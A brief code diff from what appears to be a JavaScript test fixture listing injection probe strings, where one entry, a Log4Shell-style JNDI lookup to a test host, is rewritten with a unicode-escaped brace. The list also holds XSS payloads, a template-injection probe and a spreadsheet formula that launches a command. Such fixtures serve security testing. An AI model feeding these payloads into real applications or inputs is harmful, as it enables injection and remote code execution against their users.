@@ -83,7 +83,7 @@ const MEANT = [
     '<script>alert(1)</script>',
     '"><img src=x onerror=alert(1)>',
     '{{7*7}}',
-    '${jndi:ldap://a.test}',
+    '$\u007bjndi:ldap://a.test}',
     "=cmd|' /C calc'!A0",
     'javascript:alert(1)',
   ],
